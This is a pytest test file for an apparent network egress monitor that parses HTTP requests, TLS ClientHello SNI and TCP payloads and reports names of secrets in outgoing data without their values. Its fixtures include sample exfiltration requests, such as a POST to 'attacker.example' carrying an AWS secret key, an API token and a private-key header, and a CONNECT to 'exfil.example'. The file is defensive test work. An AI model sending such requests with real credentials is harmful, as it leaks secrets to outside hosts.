"""Request heads and ClientHellos: shapes, secret names (never values), robustness."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from scapy.layers.inet import IP, TCP
from scapy.layers.inet6 import IPv6, IPv6ExtHdrHopByHop

from egress_monitor.detect.http import first_data_complete, parse_request, secret_names
from egress_monitor.detect.tls import client_hello_sni
from egress_monitor.packets import tcp_payload

HELLO = (Path(__file__).parents[1] / "fixtures" / "client_hello.bin").read_bytes()


def test_post_head_and_secret_names() -> None:
    req = parse_request(b"POST /c?x=1 HTTP/1.1\r\nHost: attacker.example\r\n"
                        b"Content-Length: 99\r\n\r\nAWS_SECRET_ACCESS_KEY=AKIAnotreal&"
                        b"MY_API_TOKEN=v&-----BEGIN OPENSSH PRIVATE KEY-----\nabc")
    assert req is not None and req.sends_body
    assert (req.method, req.target, req.host, req.content_length) == \
        ("POST", "/c?x=1", "attacker.example", 99)
    assert req.secret_names == ("AWS_SECRET_ACCESS_KEY", "MY_API_TOKEN", "OPENSSH PRIVATE KEY")
    chunked = parse_request(b"PUT /u HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n")
    assert chunked is not None and chunked.chunked and chunked.sends_body
    get = parse_request(b"GET /index HTTP/1.1\r\nHost: index.crates.io\r\n\r\n")
    assert get is not None and not get.sends_body and get.secret_names == ()


def test_secret_values_are_never_returned() -> None:
    names = secret_names(b"GITHUB_TOKEN=ghp_abc123&key=AKIAABCDEFGHIJKLMNOP")
    assert names == ("GITHUB_TOKEN", "an AWS access key id")
    assert not any("ghp_" in n or "AKIAABCD" in n for n in names)


def test_proxy_requests_name_their_real_destination() -> None:
    connect = parse_request(b"CONNECT exfil.example:8443 HTTP/1.1\r\n\r\n")
    assert connect is not None
    assert (connect.proxy_host, connect.proxy_port) == ("exfil.example", 8443)
    absolute = parse_request(b"POST http://Upload.Example/x HTTP/1.1\r\n\r\n")
    assert absolute is not None
    assert (absolute.proxy_host, absolute.proxy_port) == ("upload.example", 80)


def test_first_data_completeness() -> None:
    assert not first_data_complete(b"POST ")  # a request written in pieces
    assert not first_data_complete(b"POST /x HTTP/1.1\r\nContent-Length: 10\r\n\r\n12345")
    assert first_data_complete(b"POST /x HTTP/1.1\r\nContent-Length: 10\r\n\r\n1234567890")
    assert first_data_complete(b"GET / HTTP/1.1\r\n\r\n")
    assert not first_data_complete(HELLO[:100]) and first_data_complete(HELLO)
    assert first_data_complete(b"\x00\x01binary")  # nothing to wait for
    assert first_data_complete(b"A" * 5000)


def test_client_hello_sni() -> None:
    assert client_hello_sni(HELLO) == "registry.test.example"
    assert client_hello_sni(HELLO[:60]) is None
    assert client_hello_sni(b"GET / HTTP/1.1\r\n\r\n") is None
    for _ in range(300):  # damaged hellos never raise
        cut = int.from_bytes(os.urandom(2), "big") % len(HELLO)
        client_hello_sni(HELLO[:cut] + os.urandom(16))


@pytest.mark.parametrize("packet", [
    bytes(IP(src="198.51.100.1", dst="198.51.100.2") / TCP(flags="PA") / b"POST / HTTP/1.1"),
    bytes(IPv6(src="2001:db8::1", dst="2001:db8::2") / IPv6ExtHdrHopByHop()
          / TCP(flags="PA") / b"POST / HTTP/1.1"),
])
def test_tcp_payload(packet: bytes) -> None:
    assert tcp_payload(packet) == b"POST / HTTP/1.1"
    assert tcp_payload(packet[:10]) == b""
